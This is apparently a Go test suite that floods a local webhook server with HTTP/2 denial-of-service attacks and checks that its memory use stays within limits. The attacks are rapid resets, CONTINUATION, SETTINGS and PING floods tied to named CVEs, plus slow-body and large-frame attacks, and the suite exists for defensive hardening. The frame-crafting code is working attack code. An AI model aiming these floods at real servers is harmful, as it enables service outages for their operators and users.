package webhook_test

import (
	"bytes"
	"errors"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// framer speaks HTTP/2 frame by frame.
type framer struct {
	*http2.Framer
	header []byte // of a POST to /convert
}

// flood returns eight attackers who send what send sends, over and over. Answers of the server
// are read, or not.
func flood(read bool, send func(f *framer, stream uint32) error) attacker {
	return func(t *testing.T, v *victim, until <-chan struct{}) {
		sent := v.goesOnUntil()
		onConnections(8, "h2", func(conn net.Conn, until <-chan struct{}) {
			closed := make(chan struct{})
			defer func() { closeHard(conn); <-closed }()
			go func() { // a Write that waits for the server is cut off too
				select {
				case <-until:
					closeHard(conn)
				case <-closed:
				}
			}()
			go func() {
				defer close(closed)
				if read {
					_, _ = io.Copy(io.Discard, conn)
					return
				}
				<-until
			}()
			if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
				return
			}
			// A buffer of frames a record: the attack is cheap for the attacker.
			var frames bytes.Buffer
			f := &framer{Framer: http2.NewFramer(&frames, nil), header: requestHeader()}
			_ = f.WriteSettings()
			for stream := uint32(1); ; stream += 2 {
				if err := send(f, stream); err != nil {
					t.Error(err)
					return
				}
				if frames.Len() < 8<<10 {
					continue
				}
				if _, err := frames.WriteTo(conn); err != nil {
					return // the server has had enough
				}
				sent()
				select {
				case <-until:
					return
				default:
				}
			}
		})(t, v, until)
	}
}

func requestHeader() []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: "/convert"},
		{Name: "content-type", Value: "application/json"},
	} {
		_ = enc.WriteField(field)
	}
	return b.Bytes()
}

// burst returns n attackers who send frames at once, and then hold the connection. A pause follows each connection,
// because the machine is shared with the server.
func burst(n int, pause time.Duration, write func(f *http2.Framer, frames *bytes.Buffer)) attacker {
	frames := bytes.NewBufferString(http2.ClientPreface)
	write(http2.NewFramer(frames, nil), frames)
	return onConnections(n, "h2", func(conn net.Conn, until <-chan struct{}) {
		if _, err := conn.Write(frames.Bytes()); err == nil {
			hold(conn, until)
			tick(pause, until)
		}
	})
}

// requests writes a hundred requests, of each of which what follows the header is written by more.
func requests(f *http2.Framer, header []byte, end bool, more func(stream uint32)) {
	for stream := uint32(1); stream < 200; stream += 2 {
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header, EndStream: end, EndHeaders: true})
		more(stream)
	}
}

func TestAttack_HTTP2(t *testing.T) {
	t.Parallel()
	nothing := func(uint32) {}
	settings := func(f *framer, _ uint32) error { return f.WriteSettings() }
	ping := func(f *framer, stream uint32) error {
		return f.WritePing(false, [8]byte{byte(stream), byte(stream >> 8)})
	}
	fragment := bytes.Repeat([]byte("\x00\x01x\x01y"), 3000) // literal fields, not indexed
	var large bytes.Buffer
	enc := hpack.NewEncoder(&large)
	for range 3 {
		_ = enc.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("~", 4000), Sensitive: true})
	}
	for name, a := range map[string]struct {
		memory   uint64
		attacker attacker
	}{
		"rapid resets (CVE-2023-44487)": {192 * megabytes, flood(true, func(f *framer, stream uint32) error {
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.header, EndHeaders: true})
			return errors.Join(err, f.WriteRSTStream(stream, http2.ErrCodeCancel))
		})},
		"continuation flood (CVE-2023-45288)": {192 * megabytes, flood(true, func(f *framer, stream uint32) error {
			var err error
			if stream == 1 {
				err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.header})
			}
			return errors.Join(err, f.WriteContinuation(1, false, fragment))
		})},
		"settings flood (CVE-2019-9515)":               {192 * megabytes, flood(true, settings)},
		"settings flood without reads (CVE-2019-9515)": {192 * megabytes, flood(false, settings)},
		"ping flood (CVE-2019-9512)":                   {192 * megabytes, flood(true, ping)},
		"ping flood without reads (CVE-2019-9512)":     {192 * megabytes, flood(false, ping)},
		"slow bodies": {256 * megabytes, burst(40, 0, func(f *http2.Framer, _ *bytes.Buffer) {
			_ = f.WriteSettings()
			requests(f, requestHeader(), false, func(stream uint32) { _ = f.WriteData(stream, false, bytes.Repeat([]byte(" "), 100)) })
		})},
		// Many requests that cost the attacker next to nothing: a body is promised, or a large header is sent and no answer taken.
		"many silent requests": {320 * megabytes, burst(60, 200*time.Millisecond, func(f *http2.Framer, _ *bytes.Buffer) {
			_ = f.WriteSettings()
			requests(f, requestHeader(), false, nothing)
		})},
		"many large headers": {320 * megabytes, burst(60, 200*time.Millisecond, func(f *http2.Framer, _ *bytes.Buffer) {
			_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			requests(f, append(requestHeader(), large.Bytes()...), true, nothing)
		})},
		// The length of a frame is all that is sent of it.
		"large frames": {128 * megabytes, burst(200, 100*time.Millisecond, func(f *http2.Framer, frames *bytes.Buffer) {
			_ = f.WriteSettings()
			frames.Write([]byte{0x10, 0, 0, 0, 0, 0, 0, 0, 1}) // DATA of 1 MiB
		})},
	} {
		t.Run(name, func(t *testing.T) { attack(t, a.memory, a.attacker) })
	}
}
